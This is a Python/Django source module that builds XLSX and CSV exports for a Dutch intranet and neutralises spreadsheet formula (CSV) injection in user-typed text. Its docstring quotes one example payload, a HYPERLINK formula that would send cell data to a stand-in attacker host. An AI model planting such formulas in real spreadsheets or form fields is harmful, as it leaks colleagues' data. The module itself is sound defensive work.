"""Spreadsheet exports for every app: XLSX, CSV the way Dutch Excel opens it, and the download.

Every export of the intranet goes through this module, so that text typed by someone ends up in a
spreadsheet as text. A spreadsheet program treats a cell that starts with `=`, `+`, `-` or `@` as
a formula: a registration named `=HYPERLINK("https://evil.example/?d="&B3,"Klik hier")` would
become a live link that sends a colleague's data away when a coordinator (or a training provider
who receives the list by mail) clicks it, and older Excel versions run DDE commands this way.
Following OWASP's "CSV Injection" guidance, a text value is neutralised when its first character
is one of those four, a tab or a carriage return (to be safe also a line feed, and NUL, which
OWASP ASVS 1.2.10 lists), and also when the first character after leading whitespace is one of the four:
some programs trim leading spaces when they read a file.

- CSV knows no types, so a neutralised value gets a leading single quote (`'=HYPERLINK(...)`):
  spreadsheets show such a cell as text.
- XLSX does know types: every text is written as a string cell (openpyxl would otherwise store a
  value starting with `=` as a formula), and a neutralised one also gets Excel's "quote prefix"
  style, so that editing the cell later does not turn it into a formula either. The text itself
  stays as it was typed, minus control characters XML cannot hold and beyond Excel's 32,767
  characters per cell.

Only values of type `str` (and other objects, which are written as their text) are neutralised.
Numbers, dates, times and booleans that our own code passes stay typed: -3 is a number and
sorts as one, while the text "-3" typed in a form is written as text.
"""

import csv
import datetime
import decimal
import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field

from django.http import HttpResponse
from django.utils import timezone
from django.utils.encoding import force_str
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font

XLSX = "xlsx"
CSV = "csv"
FORMATS = (XLSX, CSV)
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
# Excel reads a CSV as UTF-8 only when it starts with a byte order mark, and a Dutch Excel
# splits columns on semicolons (the comma is the decimal separator there).
CSV_BOM = "\ufeff"
CSV_DELIMITER = ";"

FORMULA_STARTS = ("=", "+", "-", "@")
CONTROL_STARTS = ("\t", "\r", "\n", "\x00")
# Excel refuses longer cells and sheet titles, and these characters in a sheet title.
XLSX_MAX_CELL_LENGTH = 32_767
XLSX_MAX_TITLE_LENGTH = 31
XLSX_TITLE_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")

DATE_FORMAT = "dd-mm-yyyy"
DATETIME_FORMAT = "dd-mm-yyyy hh:mm"
TIME_FORMAT = "hh:mm"
TYPED = (int, float, decimal.Decimal, datetime.date, datetime.time)  # bool is an int


@dataclass(frozen=True)
class Table:
    """One table of an export: a sheet in XLSX, a block of lines in CSV."""

    headings: Sequence
    rows: Iterable[Sequence]
    title: str = "Export"
    # Lines above the headings, such as a report's title and date.
    preamble: Sequence[Sequence] = field(default_factory=tuple)


def is_formula_like(text):
    """Whether a spreadsheet could read `text` as a formula (see the module docstring)."""
    if text.startswith(CONTROL_STARTS):
        return True
    return text.lstrip().startswith(FORMULA_STARTS)


def as_text(value):
    """The text of a value that is not one of the typed values."""
    if isinstance(value, list | tuple):
        return ", ".join(force_str(item) for item in value)
    return force_str(value)


def csv_value(value):
    """A value as a CSV field: typed values as Dutch Excel reads them, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, float | decimal.Decimal):
        return str(value).replace(".", ",")
    if isinstance(value, int):
        return str(value)
    if isinstance(value, datetime.datetime):
        return _local(value).strftime("%Y-%m-%d %H:%M")
    if isinstance(value, datetime.date | datetime.time):
        return value.isoformat()
    text = as_text(value)
    return "'" + text if is_formula_like(text) else text


def to_csv(*tables):
    """The tables as CSV bytes (UTF-8 with a byte order mark, semicolons), an empty line between."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=CSV_DELIMITER, lineterminator="\r\n")
    for number, table in enumerate(tables):
        if number:
            writer.writerow([])
        for line in table.preamble:
            writer.writerow([csv_value(value) for value in line])
        writer.writerow([csv_value(value) for value in table.headings])
        for row in table.rows:
            writer.writerow([csv_value(value) for value in row])
    return (CSV_BOM + buffer.getvalue()).encode("utf-8")


def to_xlsx(*tables):
    """The tables as an XLSX workbook (bytes): one sheet each, bold headings, typed cells."""
    workbook = Workbook()
    workbook.remove(workbook.active)
    for table in tables:
        sheet = workbook.create_sheet(_sheet_title(table.title))
        lines = [*table.preamble, table.headings, *table.rows]
        heading_row = len(table.preamble) + 1
        for row_number, values in enumerate(lines, start=1):
            for column, value in enumerate(values, start=1):
                _write(sheet.cell(row=row_number, column=column), value)
        for cell in sheet[heading_row]:
            cell.font = Font(bold=True)
        _fit_columns(sheet, heading_row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def file_response(content, filename, file_format):
    """A download response for bytes made by `to_xlsx` or `to_csv`."""
    content_type = XLSX_CONTENT_TYPE if file_format == XLSX else CSV_CONTENT_TYPE
    response = HttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def export_response(file_format, filename, *tables):
    """`to_xlsx` or `to_csv` of the tables as a download named `filename`.<format>."""
    content = to_xlsx(*tables) if file_format == XLSX else to_csv(*tables)
    return file_response(content, f"{filename}.{file_format}", file_format)


class ListExportMixin:
    """Routes the XLSX and CSV of a Wagtail listing with `list_export` through this module.

    For a `ReportView` or a `ModelViewSet`'s index view; put it before the Wagtail class. Wagtail's
    own `SpreadsheetExportMixin` (Wagtail 8.0) stores only values starting with `=` as strings in
    XLSX, writes `+`, `-` and `@` as they are and neutralises nothing in CSV; its CSV is also
    comma-separated without a byte order mark, which Dutch Excel opens as one column with broken
    accents. Rows, headings and `custom_field_preprocess` still come from the Wagtail view.
    """

    def as_spreadsheet(self, queryset, spreadsheet_format):
        headings = [self.get_heading(queryset, name) for name in self.list_export]
        rows = (
            [
                self.export_value(name, value, spreadsheet_format)
                for name, value in self.to_row_dict(item).items()
            ]
            for item in queryset
        )
        table = Table(headings, rows, title=force_str(self.get_page_title()) or "Export")
        return export_response(spreadsheet_format, self.get_filename(), table)

    def export_value(self, name, value, spreadsheet_format):
        preprocess = self.custom_field_preprocess.get(name, {}).get(spreadsheet_format)
        return preprocess(value) if preprocess is not None else value


def _local(value):
    return timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value


def _sheet_title(title):
    return XLSX_TITLE_FORBIDDEN.sub("", force_str(title))[:XLSX_MAX_TITLE_LENGTH] or "Export"


def _write(cell, value):
    if value is None:
        return
    if isinstance(value, TYPED):
        if isinstance(value, datetime.datetime):
            cell.value = _local(value)
            cell.number_format = DATETIME_FORMAT
        elif isinstance(value, datetime.date):
            cell.value = value
            cell.number_format = DATE_FORMAT
        elif isinstance(value, datetime.time):
            cell.value = value.replace(tzinfo=None)
            cell.number_format = TIME_FORMAT
        else:
            cell.value = value
            exponent = value.as_tuple().exponent if isinstance(value, decimal.Decimal) else 0
            if isinstance(exponent, int) and exponent < 0:
                # Decimal("7.50") shows as 7,50 in a Dutch Excel: as many decimals as it has.
                cell.number_format = "0." + "0" * -exponent
        return
    # Characters XML cannot hold would make openpyxl refuse the whole file.
    text = ILLEGAL_CHARACTERS_RE.sub("", as_text(value))[:XLSX_MAX_CELL_LENGTH]
    cell.value = text
    cell.data_type = "s"  # never "f": openpyxl reads a leading "=" as a formula
    if is_formula_like(text):
        cell.quotePrefix = True


def _fit_columns(sheet, heading_row):
    widths = {}
    for row in sheet.iter_rows(min_row=heading_row):
        for cell in row:
            if cell.value is not None:
                longest = max(len(line) for line in str(cell.value).splitlines() or [""])
                widths[cell.column_letter] = max(widths.get(cell.column_letter, 0), longest)
    for letter, width in widths.items():
        sheet.column_dimensions[letter].width = min(max(width + 2, 10), 60)
